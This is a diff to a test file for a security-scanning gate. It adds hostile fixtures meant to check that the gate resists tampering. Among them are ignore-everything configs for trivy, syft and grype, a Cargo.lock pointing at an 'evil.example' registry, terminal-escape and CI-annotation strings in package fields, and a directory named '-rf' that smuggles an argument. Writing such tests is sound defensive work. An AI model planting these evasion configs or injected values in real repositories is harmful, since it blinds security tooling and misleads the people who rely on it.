@@ -60,7 +60,20 @@ MODULES = (
     "devsecgate/__init__.py", "devsecgate/__main__.py", "devsecgate/detectors/__init__.py",
     "devsecgate/detectors/secrets.py", "packaging/__init__.py",
 )  # fmt: skip
-PROGRAMS = ("git", "bandit", "banditrs", "semgrep", "ruff", "python", "python3", "pip-audit", "sh", "env")
+PROGRAMS = (
+    "git",
+    "bandit",
+    "banditrs",
+    "semgrep",
+    "ruff",
+    "python",
+    "python3",
+    "pip-audit",
+    "syft",
+    "trivy",
+    "sh",
+    "env",
+)
 CONFIGURATION = {
     ".bandit": "[bandit]\nskips: B602,B307\nexclude: *\ntargets: /nowhere\n",
     "bandit.yaml": "skips: [B602, B307]\n",
@@ -81,6 +94,13 @@ CONFIGURATION = {
     ".devsecgate.yaml": "version: 1\nname: evil\nlayers: {code: 'off', secret: 'off', dependency: 'off'}\n",
     ".pre-commit-config.yaml": "repos: []\n",
     "sonar-project.properties": "sonar.exclusions=**\n",
+    ".syft.yaml": "exclude: ['**']\n",
+    ".syft/config.yaml": "exclude: ['**']\n",
+    ".trivyignore": "*\n",
+    "trivy.yaml": "scan:\n  skip-dirs: ['**']\n",
+    ".grype.yaml": "ignore: [{vulnerability: '*'}]\n",
+    "-rf/Cargo.lock": 'version = 4\n\n[[package]]\nname = "itoa"\nversion = "1.0.0"\n'
+    'source = "registry+http://evil.example/index"\n\n[[package]]\nname = "::error::x"\nversion = "\\u001b[31m"\n',
     "requirements.txt": "flask==3.0.0\n--index-url http://evil.example/simple\n-e git+http://evil.example/x#egg=x\n"
     "<img src=x onerror=alert(4)>==1.0\n\x1b[31mred==1\n::error::name==1\n",
 }  # fmt: skip
@@ -107,6 +127,9 @@ ENVIRONMENT = {
     "PIP_CONFIG_FILE": "{tree}/pip.conf",
     "LD_LIBRARY_PATH": "{tree}/bin",
     "BASH_ENV": "{tree}/startup.sh",
+    "SYFT_CONFIG": "{tree}/.syft.yaml",
+    "SYFT_EXCLUDE": "**",
+    "TRIVY_CONFIG": "{tree}/trivy.yaml",
     "NODE_OPTIONS": "--require {tree}/startup.js",
     "AWS_SECRET_ACCESS_KEY": TOKEN,
     "GITHUB_TOKEN": TOKEN,
@@ -421,7 +444,9 @@ def test_the_trees_policy_has_no_say_where_another_one_is_named(done: Done) -> N
 def test_every_scanner_proved_itself_all_the_same(done: Done) -> None:
     document = json.loads(done.reports["json"])
     seen = {each["scanner"]: bool(each["canaries"]) for each in document["scanners"]}
-    assert seen == {"bandit": True, "dependencies": True, "secrets": True, "semgrep": True, "syntax": True}
+    names = ("bandit", "dependencies", "secrets", "semgrep", "syft", "syntax")
+    assert seen == dict.fromkeys(names, True)
+    assert "pkg:cargo/itoa@1.0.0" in {each["purl"] for each in document["packages"]}, "syft's own files say nothing"
 
 
 # ---------------------------------------------------------------- what ran, and what was written
